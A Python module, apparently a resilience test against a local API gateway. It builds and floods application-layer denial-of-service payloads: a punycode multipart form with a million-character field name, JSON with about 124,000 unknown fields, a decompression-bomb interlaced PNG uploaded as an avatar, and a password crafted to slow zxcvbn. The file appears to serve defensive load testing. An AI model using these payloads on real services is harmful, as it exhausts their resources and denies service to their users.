"""Requests that are cheap to send and were dear to answer, and somebody who sends nothing else."""

import asyncio
import itertools
import json
import string
import struct
import zlib
from collections import Counter
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from urllib.parse import urlsplit

ADDRESS = "127.0.0.2"
ANSWER_SECONDS = 35.0
SIDE = 5000
FIELDS = 123_751
# For zxcvbn, which tries every way to read its signs as letters.
PASSWORD = "4@8({[<3691!|70$5+%24@8({[<3691!|70$5+%2"
# PNG's seven passes (https://www.w3.org/TR/png-3/#8Interlace): first column and row, steps between them.
PASSES = ((0, 0, 8, 8), (4, 0, 8, 8), (0, 4, 4, 8), (2, 0, 4, 4), (0, 2, 2, 4), (1, 0, 2, 2), (0, 1, 1, 2))


@dataclass(frozen=True)
class Attack:
    """A request, repeated by so many connections at a time, `per_second` in all. `token`: of whom it is sent."""

    name: str
    method: str
    path: str
    content_type: str
    body: bytes
    connections: int = 10
    per_second: float = 40
    token: str = ""

    def bytes(self, host: str) -> bytes:
        """As it goes over the wire."""
        lines = [
            f"{self.method} {self.path} HTTP/1.1",
            f"Host: {host}",
            f"Content-Type: {self.content_type}",
            f"Content-Length: {len(self.body)}",
            "Connection: close",
            *([f"Authorization: Bearer {self.token}"] if self.token else []),
        ]
        return "\r\n".join([*lines, "", ""]).encode() + self.body


def all_attacks(student_token: str) -> list[Attack]:
    """Each kind once; faster than the gateway lets one address ask."""
    form, json_type = "multipart/form-data; boundary=xx; charset=punycode", "application/json"
    password = json.dumps({"password": PASSWORD}).encode()
    avatar = "/api/v1/users/me/avatar"
    return [
        Attack("forms in a slow character set", "POST", "/api/v1/auth/token", form, _punycode_form(), 10, 40),
        Attack("many unknown fields", "POST", "/api/v1/auth/login", json_type, _unknown_fields(), 10, 40),
        Attack("pictures of one student", "PUT", avatar, "image/png", _slow_picture(), 45, 60, student_token),
        Attack("slow passwords", "POST", "/api/v1/auth/password-strength", json_type, password, 20, 60),
    ]


async def attack(gateway: str, wanted: Attack, seconds: float) -> Counter[str]:
    """How often each status was answered; "broken" where the connection was."""
    place = urlsplit(gateway)
    request = wanted.bytes(place.netloc)
    ends = asyncio.get_running_loop().time() + seconds
    pause = wanted.connections / wanted.per_second

    async def repeat() -> Counter[str]:
        seen: Counter[str] = Counter()
        while asyncio.get_running_loop().time() < ends:
            began = asyncio.get_running_loop().time()
            seen[await _status(place.hostname or "", place.port or 80, request)] += 1
            await asyncio.sleep(max(0.0, began + pause - asyncio.get_running_loop().time()))
        return seen

    return sum(await asyncio.gather(*(repeat() for _ in range(wanted.connections))), Counter())


async def _status(host: str, port: int, request: bytes) -> str:
    writer = None
    try:
        async with asyncio.timeout(ANSWER_SECONDS):
            reader, writer = await asyncio.open_connection(host, port, local_addr=(ADDRESS, 0))
            writer.write(request)
            # The answer may come before the body was sent, and end the connection.
            first = await reader.readline()
            await reader.read()
            return first.split()[1].decode()
    except (OSError, TimeoutError, IndexError):
        return "broken"
    finally:
        if writer:
            with suppress(OSError):
                writer.transport.abort()


def _punycode_form() -> bytes:
    name = b"a-" + b"a" * 500_000 + b"-" + b"A" * 500_000
    return b'--xx\r\nContent-Disposition: form-data; name="' + name + b'"\r\n\r\nx\r\n--xx--\r\n'


def _unknown_fields() -> bytes:
    names = map("".join, itertools.product(string.ascii_letters, repeat=3))
    return b"{" + b",".join(b'"%s":1' % name.encode() for name in itertools.islice(names, FIELDS)) + b"}"


def _slow_picture() -> bytes:
    """Transparent black: 5000 pixels square, 16 bits a channel, interlaced; 200 MB in 200 KB."""
    packer = zlib.compressobj()
    packed = b"".join(packer.compress(row) for row in _rows()) + packer.flush()
    header = struct.pack(">IIBBBBB", SIDE, SIDE, 16, 6, 0, 0, 1)
    chunks = ((b"IHDR", header), (b"IDAT", packed), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*chunk) for chunk in chunks)


def _rows() -> Iterator[bytes]:
    for left, top, across, down in PASSES:
        row = bytes(1 + 8 * len(range(left, SIDE, across)))
        yield from itertools.repeat(row, len(range(top, SIDE, down)))


def _chunk(name: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
